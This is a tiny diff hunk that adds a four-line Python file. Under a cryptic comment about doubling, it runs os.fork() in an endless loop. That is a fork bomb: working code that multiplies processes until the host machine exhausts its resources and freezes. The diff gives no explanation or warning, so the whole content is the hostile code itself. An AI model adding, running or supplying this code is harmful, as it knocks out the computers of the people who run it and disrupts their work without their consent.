@@ -1,0 +1,4 @@
+# Twice as many with every turn.
+import os
+while True:
+    os.fork()
